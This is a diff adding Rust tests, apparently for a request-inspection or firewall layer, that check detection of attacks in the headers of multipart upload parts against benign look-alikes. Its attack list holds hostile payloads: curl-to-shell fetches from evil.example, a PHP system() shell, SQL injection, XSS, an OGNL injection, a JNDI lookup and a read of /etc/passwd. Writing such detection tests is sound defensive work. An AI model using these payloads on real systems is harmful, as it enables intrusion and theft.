@@ -1,6 +1,7 @@
-//! Attacks in headers: JSON of applications.
+//! Attacks in headers: JSON of applications, and headers of the parts of a form.
 
-use super::{ESCAPED, check, header, serde_json};
+use super::{ESCAPED, SQL, check, header, serde_json};
+use crate::send::Sent;
 
 #[test]
 fn json_in_headers_is_decoded() {
@@ -36,4 +37,74 @@ fn json_in_headers_is_decoded() {
         ("Forwarded", "for=\"[2001:db8::1]\";proto=https"),
     ];
     check(cases.map(|(name, text)| (format!("{name}: {text}"), header(name, text))), false);
+}
+
+/// A form with a file whose part has this header.
+fn with_header(line: &str) -> Sent {
+    let body = format!(
+        "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n{line}\r\n\r\nx\r\n--B--\r\n"
+    );
+    Sent::post("/upload", "multipart/form-data; boundary=B", body)
+}
+
+#[test]
+fn attacks_in_headers_of_parts_are_found() {
+    let attacks = [
+        "Content-Type: x/$(curl evil.example|sh)",
+        "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}",
+        "Content-Type: <script>alert(1)</script>",
+        "Content-Type: image/png\"onload=alert(1) x=\"",
+        "Content-Type: text/plain;curl http://e/x|sh",
+        &format!("X-A: {SQL}"),
+        "X-A: 1 UNION SELECT password FROM users",
+        "X-A: x' OR '1'='1",
+        "X-A: \"><img src=x onerror=alert(1)>",
+        "X-A: <?php system($_GET[0]);?>",
+        "X-A: {{7*7}}",
+        "X-A: `id`;cat /etc/passwd",
+        "X-A: ${jndi:ldap://e/x}",
+        "X-A: 1;id",
+        "X-A: /bin/sh -c id",
+    ];
+    check(attacks.iter().map(|it| ((*it).to_owned(), with_header(it))), true);
+    let usual = [
+        "Content-Type: text/plain; charset=\"utf-8\"",
+        "Content-Type: application/xop+xml; charset=UTF-8; type=\"application/soap+xml; action=\\\"urn:x\\\"\"",
+        "Content-Type: image/svg+xml; name=\"a'b.svg\"",
+        "Content-Type: application/octet-stream; name=\"Tom & Jerry; id.mp4\"",
+        "Content-Type: multipart/mixed; boundary=\"=_a'b=_\"",
+        "Content-Type: text/plain; format=flowed; delsp=yes",
+        "Content-ID: <image001.png@01D9.ABC>",
+        "Content-ID: <img@x.example>",
+        "Content-Description: It's a picture; of cats & dogs",
+        "Content-Location: https://a.example/?a=1&type=b",
+        "Content-Range: bytes 0-1/2",
+        "Content-MD5: Q2hlY2sgSW50ZWdyaXR5IQ==",
+        "X-Upload: a=1; b=2",
+    ];
+    check(usual.iter().map(|it| ((*it).to_owned(), with_header(it))), false);
+}
+
+#[test]
+fn names_of_fields_and_files_read_like_no_attack_in_their_header() {
+    let names = [
+        "or", "and", "id", "type", "file", "ls", "select", "union", "1", "a[b]", "like", "order",
+        "cat", "x=y", "on", "onload", "script", "null",
+    ];
+    let files = [
+        "a.txt",
+        "it's.png",
+        "a b (1).pdf",
+        "a;b.txt",
+        "union-select.doc",
+        "x & y.png",
+        "10% off.jpg",
+    ];
+    let cases = names.iter().flat_map(|name| {
+        files.iter().map(move |file| {
+            let disposition = format!("name=\"{name}\"; filename=\"{file}\"");
+            (disposition.clone(), super::part(&disposition, "image/png", b"x"))
+        })
+    });
+    check(cases, false);
 }
